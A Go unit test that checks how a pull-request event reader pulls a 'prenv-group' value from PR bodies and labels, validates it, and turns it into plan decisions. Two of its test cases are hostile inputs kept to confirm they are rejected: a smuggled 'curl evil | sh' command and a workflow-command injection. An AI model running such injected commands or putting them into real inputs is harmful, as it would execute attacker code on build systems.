package actions

import (
	"encoding/json"
	"os"
	"path/filepath"
	"testing"
)

// TestReadEventGroup: the event keeps the group a PR's body or labels name,
// validated, and none of the body's text.
func TestReadEventGroup(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct {
		name, body  string
		labels      []string
		want        string
		wantInvalid bool
	}{
		{name: "none", body: "Fixes the cart."},
		{name: "body", body: "Fixes the cart.\r\n\r\nprenv-group: checkout\r\n", want: "checkout"},
		{name: "label", labels: []string{"bug", "prenv-group: checkout"}, want: "checkout"},
		{name: "injection", body: "prenv-group: x; curl evil | sh", wantInvalid: true},
		{name: "workflow command", body: "prenv-group: ::set-output name=x::y", wantInvalid: true},
		{name: "two", body: "prenv-group: a", labels: []string{"prenv-group: b"}, wantInvalid: true},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			labels := []map[string]string{}
			for _, l := range tc.labels {
				labels = append(labels, map[string]string{"name": l})
			}
			data, err := json.Marshal(map[string]any{"action": "opened", "pull_request": map[string]any{
				"number": 12, "state": "open", "body": tc.body, "labels": labels,
				"head": map[string]any{"sha": "abc", "repo": map[string]any{"full_name": "acme/shop"}},
				"base": map[string]any{"repo": map[string]any{"full_name": "acme/shop"}},
			}})
			if err != nil {
				t.Fatal(err)
			}
			path := filepath.Join(t.TempDir(), "event.json")
			if err := os.WriteFile(path, data, 0o600); err != nil {
				t.Fatal(err)
			}
			ev, err := ReadEvent("pull_request", path)
			if err != nil {
				t.Fatal(err)
			}
			if ev.PR.Group != tc.want || ev.PR.GroupInvalid != tc.wantInvalid {
				t.Errorf("group %q (invalid %v), want %q (invalid %v)", ev.PR.Group, ev.PR.GroupInvalid, tc.want, tc.wantInvalid)
			}
			plan, err := Decide(Inputs{Command: "auto"}, ev)
			if err != nil || plan.Mode != ModeUp || plan.Group != tc.want {
				t.Errorf("Decide = %+v, %v; want up joining %q", plan, err, tc.want)
			}
			ev.Action = "closed"
			if plan, err := Decide(Inputs{Command: "auto"}, ev); err != nil || plan.Mode != ModeDestroy || plan.Group != "" {
				t.Errorf("Decide on close = %+v, %v; want a destroy, which leaves every group", plan, err)
			}
		})
	}
}
